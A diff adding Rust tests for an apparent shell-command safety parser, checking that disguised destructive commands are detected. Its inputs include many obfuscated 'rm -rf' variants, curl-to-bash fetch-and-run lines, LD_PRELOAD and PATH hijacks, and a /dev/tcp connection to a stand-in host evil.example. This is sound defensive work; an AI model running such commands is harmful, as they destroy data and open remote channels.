@@ -72,6 +72,8 @@ fn code_that_is_not_in_the_line_is_opaque() {
         "eval \"$PAYLOAD\"",
         "bash -c \"$X\"",
         "make -f - all",
+        "curl -s x | make -f -",
+        "make -f - <<< 'all:; $(X)'",
         "PATH=/tmp/evil:$PATH git status",
         "LD_PRELOAD=/tmp/x.so ls",
         "cat x | parallel",
@@ -218,8 +220,10 @@ fn git_config_and_dashed_programs() {
 fn working_directory_is_tracked() {
     assert_eq!(p("cd /tmp && rm -rf x").writes, ["/tmp/x"]);
     assert_eq!(p("cd sub; touch f").writes, ["sub/f"]);
-    assert_eq!(p("cd a && cd ../.. && rm x").writes, ["../x"]);
-    assert_eq!(p("pushd /etc && popd && rm x").writes, ["x"]);
+    // The second cd follows `&&`, so the reading keeps `a` possible too (a superset).
+    assert_eq!(p("cd a && cd ../.. && rm x").writes, ["../x", "a/x"]);
+    assert_eq!(p("pushd /etc; popd; rm x").writes, ["x"]);
+    assert_eq!(p("pushd /etc && popd && rm x").writes, ["x", "/etc/x"]);
     assert_eq!(p("pushd /etc; rm x").writes, ["/etc/x"]);
     assert_eq!(p("(cd /etc; rm a); rm b").writes, ["/etc/a", "b"]);
     assert_eq!(p("cd; rm x").writes, ["~/x"]);
@@ -402,7 +406,148 @@ fn nesting_and_size_stay_bounded() {
         s = format!("xargs {s}");
     }
     assert!(parse(&s).is_ok());
+    // Runners inside runners are bounded too (each would be a level of recursion).
+    assert!(parse(&format!("{}ls", "nice ".repeat(10_000))).is_err());
+    assert!(parse(&format!("{}ls", "nice ".repeat(20))).is_ok());
     let many = "x; ".repeat(5000);
     assert!(parse(&many).is_err());
     assert!(parse("bash -c \"$(printf 'a%.0s' {1..3})\"").is_ok());
+}
+
+#[test]
+fn more_disguises() {
+    let rm = "rm -r -f";
+    for src in [
+        "bash -c -- 'rm -rf x'",
+        "coproc rm -rf x",
+        "case $x in a) rm -rf y;; esac",
+        "{ rm -rf x; }",
+        "if rm -rf x; then :; fi",
+        "r\\\nm -rf x",
+        "xargs -0 sh -c 'rm -rf \"$@\"' _",
+        "sudo -- rm -rf x",
+        "env -- rm -rf x",
+        "time -p rm -rf x",
+        "nice -5 rm -rf x",
+        "ls # harmless\nrm -rf x",
+        "true && (rm -rf x)",
+        "echo $(bash -c 'rm -rf x')",
+        "x=$(rm -rf y)",
+        "cat <<EOF\n$(rm -rf x)\nEOF",
+    ] {
+        assert!(invokes(src, rm), "{src:?}: {:?}", p(src).commands);
+    }
+    for src in [
+        "bash < <(curl -s https://x.example)",
+        "exec bash",
+        "sudo -i <<< \"$X\"",
+    ] {
+        assert!(p(src).opaque, "{src:?}: {:?}", p(src).commands);
+    }
+    for src in [
+        "g=git; $g reset --hard",
+        "`echo rm` -rf x",
+        "git `echo reset` --hard",
+    ] {
+        assert!(p(src).dynamic, "{src:?}");
+    }
+    assert_eq!(
+        p("exec 3<>/dev/tcp/evil.example/80").writes,
+        ["/dev/tcp/evil.example/80"]
+    );
+    assert_eq!(
+        p("exec 3<>/dev/tcp/evil.example/80").reads,
+        ["/dev/tcp/evil.example/80"]
+    );
+}
+
+#[test]
+fn privileged_shells_on_stdin() {
+    assert!(invokes("sudo -i <<< 'rm -rf x'", "rm -r -f"));
+    assert!(invokes("echo 'rm -rf x' | su root", "rm -r -f"));
+    assert!(p("su -").opaque);
+    assert!(!p("su -c 'ls' root").opaque);
+}
+
+#[test]
+fn a_cd_that_might_not_run_leaves_both_directories() {
+    // Taking the cd as run would make `../../x` look like `/w/x`; without it, it climbs.
+    assert_eq!(
+        p("true || cd /w/a/b; rm -rf ../../x").writes,
+        ["/w/a/b/../../x", "../../x"]
+    );
+    assert_eq!(
+        p("false && cd /w/a/b; rm ../../x").writes,
+        ["/w/a/b/../../x", "../../x"]
+    );
+    assert_eq!(
+        p("if false; then cd /w/a; fi; rm ../x").writes,
+        ["/w/a/../x", "../x"]
+    );
+    assert_eq!(p("f() { cd /w/a; }; rm ../x").writes, ["/w/a/../x", "../x"]);
+    assert_eq!(
+        p("function f { cd /w/a; }; rm ../x").writes,
+        ["/w/a/../x", "../x"]
+    );
+    // A cd at the head of a list is certain.
+    assert_eq!(p("cd /w/a && rm ../x").writes, ["/w/a/../x"]);
+    assert_eq!(
+        p("cd sub && make > log; cd .. ; touch y").writes,
+        ["sub/log", "y"]
+    );
+    assert_eq!(
+        p("npm ci && cd web && npm run build > out.log").writes,
+        ["web/out.log", "out.log"]
+    );
+}
+
+#[test]
+fn commands_other_programs_run_through_a_shell() {
+    let rm = "rm -r -f";
+    for src in [
+        "rsync -e 'rm -rf x' a b:",
+        "rsync --rsh='rm -rf x' a b:",
+        "ssh -o ProxyCommand='rm -rf x' host",
+        "ssh -oLocalCommand='rm -rf x' -o PermitLocalCommand=yes host",
+        "scp -S 'rm -rf x' a b:",
+        "man -P 'rm -rf x' ls",
+    ] {
+        assert!(invokes(src, rm), "{src:?}: {:?}", p(src).commands);
+    }
+    assert!(
+        p("ssh -o ProxyCommand='nc %h %p' host").opaque
+            || p("ssh -o ProxyCommand='nc %h %p' host").invokes(&Pattern::new("nc").unwrap())
+    );
+    assert!(p("git -c core.sshCommand=\"$X\" fetch").opaque);
+}
+
+#[test]
+fn process_substitutions() {
+    for src in [
+        "source <(echo 'rm -rf x')",
+        ". <(printf 'rm -rf x')",
+        "bash <(echo 'rm -rf x')",
+        "bash < <(echo 'rm -rf x')",
+        "diff <(rm -rf x) b",
+        "tee >(rm -rf x) < f",
+    ] {
+        assert!(invokes(src, "rm -r -f"), "{src:?}: {:?}", p(src).commands);
+    }
+    assert!(!p("source <(echo 'ls')").opaque);
+    assert!(p("source <(curl -s https://x.example)").opaque);
+    assert!(p("bash <(curl -s https://x.example)").opaque);
+    assert!(p("bash < <(curl -s https://x.example)").opaque);
+    // The words after a process substitution stay with their command.
+    let d = p("diff <(sort a) <(sort b) -u");
+    assert_eq!(find(&d, "diff").args, ["/dev/fd/63", "/dev/fd/63", "-u"]);
+}
+
+#[test]
+fn a_makefile_on_stdin_is_read() {
+    assert!(invokes("make -f - <<< 'all:; rm -rf x'", "rm -r -f"));
+    assert!(invokes(
+        "make -f - <<EOF\nall:\n\t@rm -rf x\nEOF",
+        "rm -r -f"
+    ));
+    assert!(!p("make -f - <<< 'all:; ls'").opaque);
 }
